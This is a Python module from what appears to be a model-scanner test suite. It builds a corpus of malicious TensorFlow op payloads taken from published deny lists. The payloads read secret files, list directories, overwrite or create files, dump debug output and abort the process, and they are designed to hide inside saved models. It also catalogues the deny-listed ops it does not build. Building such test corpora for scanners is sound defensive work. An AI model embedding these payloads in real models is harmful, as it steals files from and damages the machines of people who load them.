"""The op payloads of the held-out scan corpus, taken from published lists, not ours.

Each payload is a function of :class:`Targets` that, traced inside a ``tf.function``,
returns a scalar string tensor: the stolen bytes for a leak, ``""`` for a write (the
side effect is tied to the result by a control dependency, so it runs wherever the
payload hides). :data:`PLACES` are the hiding places; :func:`hide` puts a payload in one
(both in :mod:`._scan_corpus_payload`).

The lists the ops come from (each payload names its sources):

- ``tensorabuse``: ZJU-SEC TensorAbuse, ``TensorDetect/settings.py`` ``malicious_op_list``
  (file read/write, listing, debug dumps, checkpoints, RPC and tf.data service).
- ``modelscan``: protectai modelscan ``settings.py``, ``unsafe_tf_operators``
  (``ReadFile``, ``WriteFile``).
- ``saved_model_cli``: TensorFlow ``saved_model_cli.py`` ``_OP_DENYLIST``
  (``WriteFile``, ``ReadFile``, ``PrintV2``).
- ``issue``: further file-touching ops named in the issue (datasets over files, summary
  writers, checkpoint merges, ``Abort``, ``DecodeProtoV2`` descriptors, ...).

Example:
    >>> targets = Targets(secret="/tmp/s", victim="/tmp/v")
    >>> PAYLOADS["ReadFile"].effect, sorted(PAYLOADS["ReadFile"].sources)
    ('leak', ['modelscan', 'saved_model_cli', 'tensorabuse'])
"""

from __future__ import annotations

import os
from collections.abc import Callable

import tensorflow as tf

from hublayer.testing._scan_corpus_payload import PLACES, TOKEN_LENGTH, Payload, Targets, hide

__all__ = [
    "NOT_BUILT",
    "PAYLOADS",
    "PLACES",
    "TOKEN_LENGTH",
    "Payload",
    "Targets",
    "hide",
]

TA, MS, SMC, ISSUE = "tensorabuse", "modelscan", "saved_model_cli", "issue"


def _after(op: object, value: tf.Tensor | str = "") -> tf.Tensor:
    """``value`` once ``op`` has run.

    A constant that merely waits on ``op`` is folded by grappler, and the op with it
    (``Abort`` then never runs), so the empty string is computed from the clock.
    """
    with tf.control_dependencies([op]):
        if isinstance(value, str):
            return tf.strings.substr(tf.strings.as_string(tf.timestamp()), 0, 0) + value
        return tf.identity(value)


def _join(dataset: tf.data.Dataset) -> tf.Tensor:
    return dataset.reduce(tf.constant(""), lambda a, b: a + b)


def _table(t: Targets) -> tf.Tensor:
    handle = tf.raw_ops.HashTableV2(key_dtype=tf.int64, value_dtype=tf.string, shared_name="")
    init = tf.raw_ops.InitializeTableFromTextFileV2(
        table_handle=handle, filename=t.secret, key_index=-1, value_index=-2
    )
    with tf.control_dependencies([init]):
        return tf.raw_ops.LookupTableFindV2(
            table_handle=handle, keys=tf.constant(0, tf.int64), default_value=""
        )


def _summary(t: Targets) -> tf.Tensor:
    writer = tf.raw_ops.SummaryWriter(shared_name="", container="")
    create = tf.raw_ops.CreateSummaryFileWriter(
        writer=writer, logdir=t.at("logs"), max_queue=1, flush_millis=1, filename_suffix=".v2"
    )
    with tf.control_dependencies([create]):
        write = tf.raw_ops.WriteScalarSummary(
            writer=writer, step=tf.constant(0, tf.int64), tag="t", value=1.0
        )
    with tf.control_dependencies([write]):
        return _after(tf.raw_ops.FlushSummaryWriter(writer=writer))


def _matching_dataset(op: Callable[..., tf.Tensor]) -> Callable[[Targets], tf.Tensor]:
    def build(t: Targets) -> tf.Tensor:
        variant = op(patterns=os.path.dirname(t.secret) + "/*")
        return _join(tf.data.experimental.from_variant(variant, tf.TensorSpec([], tf.string)))

    return build


def _decode_proto(t: Targets) -> tf.Tensor:
    _, values = tf.io.decode_proto(
        tf.constant([b""]), "m.M", ["s"], [tf.string], descriptor_source=t.secret + ".desc"
    )
    return tf.strings.reduce_join(values[0])


def _vocab_remap(t: Targets) -> tf.Tensor:
    # Reads the secret as both vocabularies: only line indices come out, so no bytes leak
    # (the prover is expected to drop this one).
    remap, _ = tf.raw_ops.GenerateVocabRemapping(
        new_vocab_file=t.secret, old_vocab_file=t.secret, new_vocab_offset=0, num_new_vocab=1
    )
    return tf.strings.reduce_join(tf.strings.as_string(remap))


def _write_records(t: Targets) -> tf.Tensor:
    data = tf.data.Dataset.from_tensors(tf.constant("pwned"))
    return _after(tf.data.experimental.TFRecordWriter(t.at("out.tfrecord")).write(data))


def _one() -> list[tf.Tensor]:
    return [tf.constant(1.0)]


def _payloads() -> dict[str, Payload]:
    one = _one
    table = [
        Payload("ReadFile", (TA, MS, SMC), "leak", "", lambda t: tf.io.read_file(t.secret)),
        Payload(
            "WriteFile",
            (TA, MS, SMC),
            "replace",
            "existing.txt",
            lambda t: _after(tf.io.write_file(t.at("existing.txt"), "pwned")),
        ),
        Payload(
            "PrintV2",
            (TA, SMC),
            "create",
            "printed.txt",
            lambda t: _after(tf.print("pwned", output_stream="file://" + t.at("printed.txt"))),
        ),
        Payload(
            "MatchingFiles",
            (TA,),
            "leak",
            "",
            lambda t: tf.strings.reduce_join(
                tf.io.matching_files(os.path.dirname(t.secret) + "/*")
            ),
        ),
        Payload(
            "MatchingFilesDataset",
            (TA,),
            "leak",
            "",
            _matching_dataset(tf.raw_ops.MatchingFilesDataset),
        ),
        Payload(
            "ExperimentalMatchingFilesDataset",
            (TA,),
            "leak",
            "",
            _matching_dataset(tf.raw_ops.ExperimentalMatchingFilesDataset),
        ),
        Payload(
            "FixedLengthRecordDatasetV2",
            (TA,),
            "leak",
            "",
            lambda t: _join(tf.data.FixedLengthRecordDataset(t.secret, TOKEN_LENGTH + 1)),
        ),
        Payload(
            "CSVDatasetV2",
            (TA,),
            "leak",
            "",
            lambda t: _join(
                tf.data.experimental.CsvDataset(t.secret, [tf.string]).map(lambda s: s)
            ),
        ),
        Payload(
            "ImmutableConst",
            (TA,),
            "leak",
            "",
            lambda t: tf.strings.unicode_encode(
                tf.cast(
                    tf.raw_ops.ImmutableConst(
                        dtype=tf.uint8, shape=[TOKEN_LENGTH], memory_region_name=t.secret
                    ),
                    tf.int32,
                ),
                "UTF-8",
            ),
        ),
        Payload("InitializeTableFromTextFileV2", (TA,), "leak", "", _table),
        Payload(
            "Save",
            (TA,),
            "replace",
            "existing.txt",
            lambda t: _after(
                tf.raw_ops.Save(filename=t.at("existing.txt"), tensor_names=["a"], data=one())
            ),
        ),
        Payload(
            "SaveSlices",
            (TA,),
            "replace",
            "existing.txt",
            lambda t: _after(
                tf.raw_ops.SaveSlices(
                    filename=t.at("existing.txt"),
                    tensor_names=["a"],
                    shapes_and_slices=[""],
                    data=one(),
                )
            ),
        ),
        Payload(
            "SaveV2",
            (TA,),
            "create",
            "ckpt.index",
            lambda t: _after(
                tf.raw_ops.SaveV2(
                    prefix=t.at("ckpt"), tensor_names=["a"], shape_and_slices=[""], tensors=one()
                )
            ),
        ),
        Payload(
            "DebugIdentity",
            (TA,),
            "create",
            "dump",
            lambda t: tf.strings.as_string(
                tf.reduce_sum(
                    tf.raw_ops.DebugIdentity(
                        input=one()[0], tensor_name="t:0", debug_urls=["file://" + t.at("dump")]
                    )
                )
            ),
        ),
        Payload(
            "DebugIdentityV2",
            (TA, ISSUE),
            "create",
            "dump",
            lambda t: tf.strings.as_string(
                tf.reduce_sum(
                    tf.raw_ops.DebugIdentityV2(
                        input=one()[0],
                        tfdbg_context_id="c",
                        op_name="o",
                        output_slot=0,
                        tensor_debug_mode=8,
                        debug_urls=["file://" + t.at("dump")],
                    )
                )
            ),
        ),
        Payload(
            "DebugIdentityV3",
            (TA,),
            "create",
            "dump",
            lambda t: tf.strings.as_string(
                tf.reduce_sum(
                    tf.raw_ops.DebugIdentityV3(
                        input=one()[0],
                        tensor_name="t:0",
                        io_of_node="n",
                        is_input=False,
                        io_index=0,
                        debug_urls=["file://" + t.at("dump")],
                    )
                )
            ),
        ),
        Payload(
            "TextLineDataset",
            (ISSUE,),
            "leak",
            "",
            lambda t: _join(tf.data.TextLineDataset(t.secret)),
        ),
        Payload(
            "TFRecordDataset",
            (ISSUE,),
            "leak",
            "",
            lambda t: _join(tf.data.TFRecordDataset(t.secret + ".tfrecord")),
        ),
        Payload("CreateSummaryFileWriter", (ISSUE,), "create", "logs", _summary),
        Payload(
            "MergeV2Checkpoints",
            (ISSUE,),
            "create",
            "merged.index",
            lambda t: _after(
                tf.raw_ops.MergeV2Checkpoints(
                    checkpoint_prefixes=[t.at("source")],
                    destination_prefix=t.at("merged"),
                    delete_old_dirs=True,
                )
            ),
            setup="merge_source",
        ),
        Payload("Abort", (ISSUE,), "die", "", lambda t: _after(tf.raw_ops.Abort(error_msg="x"))),
        Payload("DecodeProtoV2", (ISSUE,), "leak", "", _decode_proto),
        Payload("GenerateVocabRemapping", (ISSUE,), "leak", "", _vocab_remap),
        Payload("DatasetToTFRecord", (ISSUE,), "create", "out.tfrecord", _write_records),
        Payload(
            "CacheDatasetV2",
            (ISSUE,),
            "create",
            "cache.index",
            lambda t: _join(tf.data.Dataset.from_tensors(tf.constant("x")).cache(t.at("cache"))),
        ),
    ]
    return {p.op: p for p in table}


#: Every payload, by the op it holds.
PAYLOADS: dict[str, Payload] = _payloads()

#: Ops the published lists name that the corpus does not build, and why.
NOT_BUILT: dict[str, str] = {
    **{
        op: "no Python wrapper in TF 2.21 (tf.raw_ops lacks it), so no plain-TF model"
        for op in ("CalibrationStatisticsSaver",)
    },
    **{op: "not registered by TF 2.21" for op in ("RecursivelyCreateDir", "DeleteFile")},
    **{
        op: "needs a live RPC or tf.data service server to prove harm (no network here)"
        for op in (
            "RpcCall",
            "RpcClient",
            "RpcServer",
            "RpcServerRegister",
            "RegisterDataset",
            "RegisterDatasetV2",
            "DataServiceDataset",
            "DataServiceDatasetV2",
            "DataServiceDatasetV3",
            "DataServiceDatasetV4",
            "DistributedSave",
        )
    },
    **{
        op: "a TF1 reference-type op: cannot run inside a TF2 function "
        "(its V2 twin is built instead)"
        for op in ("InitializeTableFromTextFile", "FixedLengthRecordDataset", "CSVDataset")
    },
    "ExperimentalCSVDataset": "deprecated twin of CSVDatasetV2 (built instead)",
}
